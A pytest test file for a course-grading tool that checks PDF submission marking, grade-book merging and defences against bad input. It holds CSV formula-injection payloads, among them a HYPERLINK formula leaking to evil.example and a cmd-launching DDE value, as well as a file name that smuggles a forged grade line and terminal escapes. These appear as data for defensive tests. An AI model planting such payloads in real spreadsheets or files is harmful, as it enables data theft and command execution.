"""Grading that loses nothing: fair marks from the printed numbers, a merged grade book,
duplicates and swapped configs refused, hostile files one line, cells that never run.

Submissions are the shared course's own PDFs (tests/course_fixture.py) filled in with
pypdf as a PDF reader would; each test grades a copy of the batch folder.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import time
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from course_fixture import EXERCISES, reportgen
from pypdf import PdfReader, PdfWriter

from reportgen.course import cells, grading

pytestmark = pytest.mark.slow

needs_pdftotext = pytest.mark.skipif(not shutil.which("pdftotext"),
                                     reason="poppler-utils not installed; .ci/run installs it")
POINTS = {"stable-rate": 2.0, "two-steps": 2.0, "reach": 1.0, "diverges": 1.0}


@pytest.fixture
def batch(course_batch: Path, tmp_path: Path) -> Path:
    """A copy of the shared course batch, for one test to grade."""
    return Path(shutil.copytree(course_batch, tmp_path / "batch", symlinks=True))


def fill(source: Path, target: Path, values: dict[str, str]) -> Path:
    """Type ``values`` into a PDF's fields (and pick a choice), as a PDF reader would."""
    writer = PdfWriter(clone_from=PdfReader(source))
    for page in writer.pages:
        if page.get("/Annots"):
            writer.update_page_form_field_values(page, values, auto_regenerate=False)
    writer.write(target)
    return target


def grades(batch: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((batch / "grades.csv").read_text())))


# ---------------------------------------------------------------- fair marking


def printed_inputs(text: str) -> list[dict[str, Any]]:
    """Each exercise's "Work from:" numbers, parsed out of pdftotext's text."""
    flat = " ".join(text.split())
    found = []
    for block in re.findall(r"Work from: (.*?)\. (?:Answer|\d+\.|◦|page)", flat):
        values: dict[str, Any] = {}
        for part in block.split("; "):
            name, _, value = part.partition(" = ")
            values[name.strip()] = json.loads(value.replace("\u2212", "-"))
        found.append(values)
    return found


def answers_from_print(text: str) -> dict[str, str]:
    """Each answer worked out from the copy's printed numbers only, at printed precision,
    with the exercises' parameters as the copy states them (tests/course_fixture.py)."""
    inputs = printed_inputs(text)
    assert len(inputs) == 4, inputs
    h = np.array(inputs[0]["H"])
    lmax = np.linalg.eigvalsh(h)[-1]
    a, b, n = (np.array(inputs[1][k]) for k in ("X\u1d40X", "X\u1d40y", "n"))
    theta = np.zeros(2)
    for _ in range(2):
        theta = theta - 0.05 * 2 / n * (a @ theta - b)
    a, b = (np.array(inputs[2][k]) for k in ("X\u1d40X", "X\u1d40y"))  # its own digits
    star, floor = np.array(inputs[2]["\u03b8*"]), float(inputs[2]["J*"])
    t, k = np.zeros(2), 0
    while (t - star) @ a @ (t - star) / n > 0.01 * floor:
        t, k = t - 0.3 * 2 / n * (a @ t - b), k + 1
    h4 = np.array(inputs[3]["H"])
    diverging = [i for i, rate in enumerate([0.05, 0.2, 0.35, 0.7])
                 if rate > 2 / np.linalg.eigvalsh(h4)[-1]]
    return {"stable-rate": f"{2 / lmax:.6g}", "two-steps": f"{theta[1]:.6g}",
            "reach": str(k), "diverges": "ABCD"[diverging[0]]}


@needs_pdftotext
def test_working_from_the_printed_numbers_earns_full_marks(batch: Path,
                                                           tmp_path: Path) -> None:
    rows = [r for r in json.loads((batch / "batch.json").read_text())["variants"]
            if r["copy"] == "student"]
    submissions = []
    for row in rows:
        pdf = batch / row["id"] / "handout.pdf"
        text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True,
                              check=True).stdout
        submissions.append(fill(pdf, tmp_path / f"{row['id'].split('/')[1]}.pdf",
                                answers_from_print(text)))
    done = reportgen("grade", str(batch), *map(str, submissions))
    assert done.stdout.count(": 6 points") == 4, done.stdout
    for row in grades(batch):
        assert row["total"] == "6" and all(row[f"{e} points"] == str(int(POINTS[e]))
                                           for e in EXERCISES)


# ---------------------------------------------------------------- the grade book


def right_answers(batch: Path, sid: str) -> dict[str, str]:
    rows = csv.DictReader(io.StringIO((batch / "answer-key.csv").read_text()))
    return {r["exercise_id"]: r["answer"] for r in rows if cells.text_of(r["student_id"]) == sid}


def handout(batch: Path, name: str) -> Path:
    return batch / "students" / name / "handout.pdf"


def test_grades_are_merged_and_survive_a_second_run(batch: Path, tmp_path: Path) -> None:
    first = fill(handout(batch, "s001"), tmp_path / "s001.pdf", right_answers(batch, "s001"))
    reportgen("grade", str(batch), str(first))
    wrong = {"stable-rate": "0.9", "two-steps": "≈ 5", "reach": "3", "diverges": "A"}
    second = fill(handout(batch, "s002"), tmp_path / "s002.pdf", wrong)
    done = reportgen("grade", str(batch), str(second))
    assert "student s002: 0 points" in done.stdout
    rows = {row["student_id"]: row for row in grades(batch)}
    assert len(rows) == 4
    assert rows["s001"]["total"] == "6" and rows["s001"]["submission"] == "s001.pdf"
    assert rows["s002"]["total"] == "0" and rows["s002"]["two-steps answer"] == "≈ 5"
    assert rows["s004"]["note"] == "no submission" and rows["s004"]["total"] == "0"
    assert rows["s001"]["name"] == "Ada Lovelace"
    again = reportgen("grade", str(batch), str(first))  # the same file again: kept, no error
    assert again.returncode == 0 and {r["student_id"]: r for r in grades(batch)} == rows
    html = (batch / "index.html").read_text()
    assert "fig-marks" in html and "2 marked" in html


def test_a_second_submission_needs_replace_and_says_so(batch: Path, tmp_path: Path) -> None:
    first = fill(handout(batch, "s001"), tmp_path / "first.pdf", right_answers(batch, "s001"))
    reportgen("grade", str(batch), str(first))
    before = (batch / "grades.csv").read_bytes()
    late = fill(handout(batch, "s001"), tmp_path / "late.pdf", {"stable-rate": "1"})
    done = reportgen("grade", str(batch), str(late), check=False)
    assert done.returncode == 1 and (batch / "grades.csv").read_bytes() == before
    assert "student 's001' was marked before from first.pdf; " in done.stderr
    assert "late.pdf is another file: pass --replace" in done.stderr
    done = reportgen("grade", str(batch), str(late), "--replace")
    assert "replaced: student s001: " in done.stdout
    assert "late.pdf replaces first.pdf (6 points)" in done.stdout
    assert {r["student_id"]: r for r in grades(batch)}["s001"]["total"] == "0"


def test_two_files_for_one_student_or_one_file_twice_write_nothing(batch: Path,
                                                                    tmp_path: Path) -> None:
    one = fill(handout(batch, "s002"), tmp_path / "one.pdf", {"stable-rate": "1"})
    two = fill(handout(batch, "s002"), tmp_path / "two.pdf", {"stable-rate": "2"})
    done = reportgen("grade", str(batch), str(one), str(two), check=False)
    assert done.returncode == 1 and not (batch / "grades.csv").exists()
    assert "student 's002' has two submissions, " in done.stderr
    assert "one.pdf" in done.stderr and "two.pdf" in done.stderr
    done = reportgen("grade", str(batch), str(one), str(one), check=False)
    assert done.returncode == 1 and "is given twice" in done.stderr
    assert not (batch / "grades.csv").exists()


def replace_attachment(source: Path, target: Path, name: str, data: bytes) -> Path:
    """A copy of a handout PDF whose attachment ``name`` holds ``data``."""
    writer = PdfWriter(clone_from=PdfReader(source))
    names = writer._root_object["/Names"]["/EmbeddedFiles"]["/Names"]
    for label, spec in zip(names[::2], names[1::2], strict=True):
        if label == name:
            spec.get_object()["/EF"]["/F"].get_object().set_data(data)
    writer.write(target)
    return target


def test_a_swapped_config_is_not_scored_and_says_why(batch: Path, tmp_path: Path) -> None:
    theirs = PdfReader(handout(batch, "s002")).attachments
    swapped = replace_attachment(handout(batch, "s001"), tmp_path / "swapped.pdf",
                                 "config.toml", theirs["config.toml"][0])
    both = replace_attachment(swapped, tmp_path / "both.pdf", "manifest.json",
                              theirs["manifest.json"][0])
    done = reportgen("grade", str(batch), str(swapped), str(both), check=False)
    assert done.returncode == 1
    assert ("swapped.pdf: NOT SCORED: its attached config (student 's002') is not the one its "
            "pages were made from (student 's001'): a config swapped in") in done.stdout
    assert ("both.pdf: NOT SCORED: its first page does not name student 's002', whom its "
            "config names: a config swapped in") in done.stdout
    assert {r["student_id"]: r for r in grades(batch)}["s002"]["note"] == "no submission"


def test_a_stale_key_or_an_incomplete_batch_is_refused(batch: Path, tmp_path: Path) -> None:
    pdf = fill(handout(batch, "s001"), tmp_path / "s001.pdf", right_answers(batch, "s001"))
    key = batch / "answer-key.csv"
    original = key.read_text()
    key.write_text(original.replace(right_answers(batch, "s001")["stable-rate"], "0.5"))
    done = reportgen("grade", str(batch), str(pdf), check=False)
    assert done.returncode == 2 and "is not the key batch.json records" in done.stderr
    key.write_text(original)
    record = json.loads((batch / "batch.json").read_text())
    (batch / "batch.json").write_text(json.dumps({**record, "complete": False}))
    done = reportgen("grade", str(batch), str(pdf), check=False)
    assert done.returncode == 2 and "the batch is incomplete" in done.stderr
    for broken in ('{"schema": "reportgen.batch/1", "variants": 7, "complete": true}',
                   "{not json", "[]"):
        (batch / "batch.json").write_text(broken)
        done = reportgen("grade", str(batch), str(pdf), check=False)
        assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1, done.stderr
        assert "Traceback" not in done.stderr
    assert not (batch / "grades.csv").exists()


def test_hostile_submissions_are_one_line_each_and_bounded(batch: Path,
                                                           tmp_path: Path) -> None:
    fifo = tmp_path / "fifo.pdf"
    os.mkfifo(fifo)
    zero = tmp_path / "zero.pdf"
    zero.symlink_to("/dev/zero")
    page = tmp_path / "page.pdf"
    page.write_text("<!doctype html><html><body>not a pdf</body></html>")
    forged = tmp_path / "x\nstudent s002: 3 points\x1b[31m.pdf"
    shutil.copy(handout(batch, "s001"), forged)
    started = time.perf_counter()
    done = reportgen("grade", str(batch), str(fifo), str(zero), str(page), str(forged),
                     check=False, timeout=120)
    assert time.perf_counter() - started < 60
    assert done.returncode == 1 and "Traceback" not in done.stderr and not done.stderr.strip()
    lines = done.stdout.splitlines()
    assert any("fifo.pdf: NOT SCORED: " in line and "named pipe" in line for line in lines)
    assert any("zero.pdf: NOT SCORED: " in line and "character device" in line
               for line in lines)
    assert any("page.pdf: NOT SCORED: not a PDF" in line for line in lines)
    assert "\x1b" not in done.stdout and "x\\nstudent s002: 3 points\\x1b[31m.pdf" in done.stdout
    assert not any(line.startswith("student s002") for line in lines)
    assert len(lines) == 5


# ---------------------------------------------------------------- answers and cells


@pytest.mark.parametrize(("typed", "value"), [
    ("0.48", 0.48), (" 0,48 ", 0.48), ("≈0.5", 0.5), ("~ 0.5", 0.5), ("= -1.5", -1.5),
    ("\u22121.5", -1.5), ("4.8e-1", 0.48), ("4.8 \u00d7 10^-1", 0.48), ("4.8*10^(-1)", 0.48),
    ("1,234.5", 1234.5), ("1 234,5", 1234.5), ("about 2", 2.0), (".5", 0.5),
    ("", None), ("abc", None), ("0.4.8", None), ("1/2", None), ("nan", None), ("inf", None),
    ("0,4,8", None), ("1" * 300, None),
])
def test_answers_are_read_by_documented_rules(typed: str, value: float | None) -> None:
    assert grading.parse_answer(typed) == value


@pytest.mark.parametrize("typed", ["1" + " " * 100_000 + "2", "1" + " " * 10_000_000 + "2",
                                   "x" + "10^" * 100_000, "×" * 100_000 + "10^1"])
def test_reading_an_answer_is_linear(typed: str) -> None:
    started = time.perf_counter()
    assert grading.parse_answer(typed) is None
    assert time.perf_counter() - started < 1.0


def test_marks_are_within_a_relative_tolerance() -> None:
    assert grading.within(0.4845, 0.4841, 0.001) and not grading.within(0.4850, 0.4841, 0.001)
    assert grading.within(0.0005, 0.0, 0.001)
    assert grading.read_choice(" (b) ") == "B" and grading.read_choice("BB") is None


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?leak","click")',
     "'=HYPERLINK(\"http://evil.example/?leak\",\"click\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'quoted", "''quoted"), ("plain", "plain"),
    ("-1.5", "-1.5"), ("4.2e-05", "4.2e-05"), (-1.5, "-1.5"), (2, "2"),
])
def test_cells_never_start_a_formula_and_numbers_stay_numbers(value: Any, written: str) -> None:
    assert cells.cell(value) == written
    if isinstance(value, str):
        assert cells.text_of(cells.cell(value)) == value
    parsed = next(csv.reader(io.StringIO(cells.csv_text(["a"], [[value]]))))
    assert parsed == ["a"]  # the header; the row follows
    row = list(csv.reader(io.StringIO(cells.csv_text(["a"], [[value]]))))[1][0]
    is_number = cells.is_plain_number(row)
    assert is_number == (isinstance(value, int | float) or value in ("-1.5", "4.2e-05"))
    if is_number:
        assert float(row) == float(value)
    assert not row.startswith(("=", "+", "@", "\t", "\r")) and (
        is_number or not row.startswith("-"))


def test_grades_and_exports_neutralise_cells_and_keep_numbers(batch: Path,
                                                              tmp_path: Path) -> None:
    evil = next(p for p in (batch / "students").iterdir() if p.name.startswith("HYPERLINK"))
    sid = '=HYPERLINK("http://evil.example/?leak","click")'
    pdf = fill(evil / "handout.pdf", tmp_path / "evil.pdf",
               {**right_answers(batch, sid), "two-steps": "=1+1"})
    reportgen("grade", str(batch), str(pdf))
    for name in ("grades.csv", "grades-moodle.csv", "grades-canvas.csv"):
        for row in csv.reader(io.StringIO((batch / name).read_text())):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                assert not cell.startswith("-") or cells.is_plain_number(cell), (name, cell)
    rows = {cells.text_of(r["student_id"]): r for r in grades(batch)}
    assert rows[sid]["two-steps answer"] == "'=1+1" and rows[sid]["total"] == "4"
    moodle = list(csv.reader(io.StringIO((batch / "grades-moodle.csv").read_text())))
    assert moodle[0][:2] == ["ID number", "Full name"] and moodle[0][2].endswith(" total")
    canvas = list(csv.reader(io.StringIO((batch / "grades-canvas.csv").read_text())))
    assert canvas[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert canvas[1][0] == "Points Possible" and float(canvas[1][5]) == 6.0
